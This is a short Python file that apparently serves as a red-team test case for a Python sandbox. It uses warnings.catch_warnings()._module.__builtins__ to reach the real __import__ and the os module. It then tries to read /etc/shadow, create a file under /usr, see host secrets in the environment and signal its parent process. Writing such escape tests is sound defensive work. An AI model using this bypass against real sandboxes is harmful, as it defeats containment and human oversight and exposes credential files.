# attack: warnings.catch_warnings() keeps the real warnings module; its __builtins__ are the real
#   builtins, with the unguarded __import__
# escaped-if: stdout has "BYPASSED:" (real import reached) or "ESCAPED:" (the host reached with it)
# policy: normal
import warnings


def contain(real):
    """What the real os can do here; prints ESCAPED for anything that reaches the host."""
    reached = []
    try:
        real["close"](real["open"]("/etc/shadow", real["O_RDONLY"]))
        reached.append("read /etc/shadow")
    except OSError:
        pass
    try:
        real["close"](real["open"]("/usr/nexus-redteam-escape", real["O_WRONLY"] | real["O_CREAT"], 0o600))
        reached.append("created /usr/nexus-redteam-escape")
    except OSError:
        pass
    if any("nexus-redteam-secret" in str(value) for value in real["environ"].values()):
        reached.append("saw the host environment")
    parent = real["getppid"]()
    if parent > 1:
        try:
            real["kill"](parent, 0)
            reached.append(f"may signal its parent {parent}")
        except OSError:
            pass
    print("ESCAPED: " + ", ".join(reached) if reached else "sandbox held: no host file, secret or parent")


real_builtins = warnings.catch_warnings()._module.__builtins__
real_os = real_builtins["__import__"]("os")
print("BYPASSED: catch_warnings()._module.__builtins__ gave the real import")
contain(real_os.__dict__)
